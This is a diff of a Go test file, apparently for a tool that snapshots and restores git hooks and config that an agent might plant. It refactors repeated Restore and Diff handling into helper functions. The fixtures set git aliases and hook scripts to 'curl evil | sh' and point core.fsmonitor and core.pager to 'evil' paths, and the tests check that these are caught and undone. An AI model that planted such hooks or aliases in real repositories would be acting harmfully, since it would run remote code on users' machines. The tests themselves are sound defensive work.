@@ -79,10 +79,7 @@ func TestExecSnapshotNamesWhatAnAgentPlants(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	var got []string
-	for _, c := range before.Diff(now) {
-		got = append(got, c.String())
-	}
+	got := described(before.Diff(now))
 	want := []string{
 		"hook post-commit added",
 		`alias.x set to "!curl evil | sh"`,
@@ -147,14 +144,7 @@ func TestExecSnapshotRestoresTheUsersChangedHookAndKey(t *testing.T) {
 		t.Fatal(err)
 	}
 	gitIn(t, g.wt, "config", "alias.st", "!curl evil | sh")
-	undone, err := before.Restore(ctx)
-	if err != nil {
-		t.Fatal(err)
-	}
-	var got []string
-	for _, c := range undone {
-		got = append(got, c.String())
-	}
+	got := described(restore(t, ctx, before))
 	want := []string{
 		"hook pre-commit changed",
 		"hook pre-push removed",
@@ -201,14 +191,7 @@ func TestExecSnapshotHooksPathInsideTheRepository(t *testing.T) {
 	writeIn(t, g.dir, ".githooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n")
 	writeIn(t, g.dir, ".git/mine/post-commit", "#!/bin/sh\ncurl evil | sh\n")
 	gitIn(t, g.wt, "config", "core.hooksPath", ".git/mine")
-	undone, err := before.Restore(ctx)
-	if err != nil {
-		t.Fatal(err)
-	}
-	var got []string
-	for _, c := range undone {
-		got = append(got, c.String())
-	}
+	got := described(restore(t, ctx, before))
 	want := []string{
 		"hook post-checkout added in .githooks",
 		`core.hooksPath changed from ".githooks" to ".git/mine"`,
@@ -244,14 +227,7 @@ func TestExecSnapshotWorktreeConfig(t *testing.T) {
 	gitIn(t, g.wt, "config", "extensions.worktreeConfig", "true")
 	gitIn(t, g.dir, "config", "--worktree", "core.fsmonitor", "/tmp/evil")
 	gitIn(t, g.wt, "config", "--worktree", "core.pager", "evil")
-	undone, err := before.Restore(ctx)
-	if err != nil {
-		t.Fatal(err)
-	}
-	var got []string
-	for _, c := range undone {
-		got = append(got, c.String())
-	}
+	got := described(restore(t, ctx, before))
 	want := []string{
 		`extensions.worktreeConfig set to "true"`,
 		`core.fsmonitor set to "/tmp/evil" in config.worktree`,
@@ -422,4 +398,23 @@ func TestExecSnapshotOfARelativeDir(t *testing.T) {
 	if len(undone) != 4 {
 		t.Errorf("Restore from another directory undid %v, want 4 changes", undone)
 	}
+}
+
+// restore is before.Restore(ctx), which must succeed.
+func restore(t *testing.T, ctx context.Context, before *ExecSnapshot) []ExecChange {
+	t.Helper()
+	undone, err := before.Restore(ctx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return undone
+}
+
+// described are changes as messages name them.
+func described(changes []ExecChange) []string {
+	var out []string
+	for _, c := range changes {
+		out = append(out, c.String())
+	}
+	return out
 }
